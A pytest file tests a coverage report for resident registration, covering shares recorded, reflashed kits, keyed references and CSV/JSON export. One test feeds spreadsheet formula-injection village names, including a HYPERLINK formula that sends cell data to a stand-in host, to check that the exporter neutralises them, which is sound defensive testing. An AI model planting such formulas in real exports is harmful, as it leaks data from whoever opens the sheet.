"""Coverage numbers: the share officials quote, and the formats scripts read."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import ClassVar

import pytest

from provisioning.collector import CollectorDB
from provisioning.collector_audit import CollectedRecord, audit_database
from provisioning.report import (
    FORMULA_STARTS,
    OVERALL,
    Row,
    Scope,
    build_report,
    to_csv,
    to_json,
)
from simulator.kit import demo_world, resident_of
from storage.keys import Authority
from storage.reference import ReferenceKey


def test_share_is_worklist_residents_recorded() -> None:
    row = Row(Scope.VILLAGE, "SAWENTAR", registered=500, recorded=499)
    assert (row.missing, row.share_recorded) == (1, 99.8)
    assert Row(Scope.KIT, "K1", recorded=3).share_recorded is None, "no worklist, no share"


def test_an_empty_database_reports_every_resident_not_yet_recorded(tmp_path: Path) -> None:
    worklist = tuple(resident_of(person) for person in demo_world(1).residents)
    authority = Authority.init(tmp_path / "authority", name="t")
    with CollectorDB(tmp_path / "c.db") as db:
        audit = audit_database(db, authority.public).require_ok()
        rows = build_report(audit, worklist, authority.references)
    overall = rows[-1]
    assert (overall.registered, overall.recorded, overall.missing) == (60, 0, 60)
    villages = [row for row in rows if row.scope == "village"]
    assert sum(row.registered or 0 for row in villages) == 60
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert parsed[-1]["share_recorded"] == "0.0"
    assert json.loads(to_json(rows))[-1]["missing"] == 60


class Reflashed:
    """A collector's view of one kit flashed twice: two chains, both numbered from 1."""

    old, new = b"old-cert-digest", b"new-cert-digest"

    printed: ClassVar[dict[bytes, set[int]]] = {old: {1}, new: set()}
    records: ClassVar[list[CollectedRecord]] = [
        CollectedRecord(old, "K1", 1, "SWT-1", False, 0, None, True),
        CollectedRecord(new, "K1", 1, "SWT-2", False, 0, None, False),
        CollectedRecord(new, "K1", 2, None, False, 0, 1, False),
        CollectedRecord(new, "K1", 3, "SWT-3", False, 1, None, False),
    ]


def test_voids_and_cards_count_within_their_own_chain() -> None:
    """The new chain's record 2 voids its own record 1, not the old chain's record 1."""
    rows = {row.name: row for row in build_report(Reflashed())}
    kit = rows["K1"]
    assert (kit.recorded, kit.printed, kit.excepted) == (2, 1, 1), "old 1 and new 3 count"
    assert rows[OVERALL].recorded == 2


@pytest.mark.parametrize(
    "village",
    ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"],
)
def test_a_village_name_never_becomes_a_spreadsheet_formula(village: str) -> None:
    residents = tuple(
        dataclasses.replace(resident_of(person), village=village)
        for person in demo_world(1).residents[:3]
    )
    rows = build_report(Reflashed(), residents, ReferenceKey.generate())
    parsed = list(csv.reader(io.StringIO(to_csv(rows), newline="")))
    names = [cells[1] for cells in parsed if cells[0] == "village"]
    assert "'" + village in names, "the cell is text that shows what the village sheet said"
    assert not any(cell.startswith(FORMULA_STARTS) for cells in parsed[1:] for cell in cells)
    overall = next(cells for cells in parsed if cells[0] == "overall")
    assert overall[2] == "3", "numbers stay numbers"


def test_the_csv_of_a_report_without_worklist_has_no_dash_cells() -> None:
    parsed = list(csv.DictReader(io.StringIO(to_csv(build_report(Reflashed())))))
    assert parsed and all(row["share_recorded"] == row["registered"] == "" for row in parsed)


KEY = ReferenceKey.generate()


@dataclasses.dataclass
class Mixed:
    """Records of one worklist in every format: plain references (format 1 and 2) and
    keyed ones (format 3), a walk-in, and a keyed reference made under another key."""

    records: list[CollectedRecord]
    printed: dict[bytes, set[int]] = dataclasses.field(default_factory=dict)


def _village_rows(rows: list[Row]) -> dict[str, tuple[int, int | None]]:
    return {row.name: (row.recorded, row.missing) for row in rows if row.scope == "village"}


def test_keyed_and_plain_references_match_the_worklist_alike() -> None:
    residents = tuple(resident_of(person) for person in demo_world(1).residents[:4])
    first, second, third, fourth = (r.worklist_ref or "" for r in residents)
    other = ReferenceKey.generate()
    chain = b"cert"
    records = [
        CollectedRecord(chain, "K1", 1, first, False, 0, None, False),  # format 1 or 2
        CollectedRecord(chain, "K1", 2, None, False, 0, None, False, keyed_ref=KEY.keyed(second)),
        CollectedRecord(
            chain, "K1", 3, None, True, 0, None, False, keyed_ref=KEY.keyed("walk-in:x")
        ),
        # the third resident's reference, keyed by another authority: nobody of this worklist
        CollectedRecord(chain, "K1", 4, None, False, 0, None, False, keyed_ref=other.keyed(third)),
    ]
    rows = build_report(Mixed(records), residents, KEY)
    overall = rows[-1]
    assert (overall.registered, overall.recorded, overall.missing) == (4, 2, 2)
    assert overall.walk_ins == 1, "a walk-in is not 'recorded': it counts apart, as the district's"
    villages = _village_rows(rows)
    assert villages["?"] == (1, None), "the foreign keyed reference counts as unknown"
    (walk_in,) = [row for row in rows if row.name == "(walk-in)"]
    assert (walk_in.recorded, walk_in.walk_ins) == (0, 1)
    placed = {r.village for r in residents[:2]}
    assert sum(villages[name][0] for name in placed) == 2
    missing = {r.village for r in (residents[2], residents[3])}
    assert all(villages[name][1] for name in missing), (fourth, "not recorded")


def test_a_report_against_a_worklist_needs_the_reference_key() -> None:
    residents = tuple(resident_of(person) for person in demo_world(1).residents[:1])
    with pytest.raises(ValueError, match="reference key"):
        build_report(Reflashed(), residents)
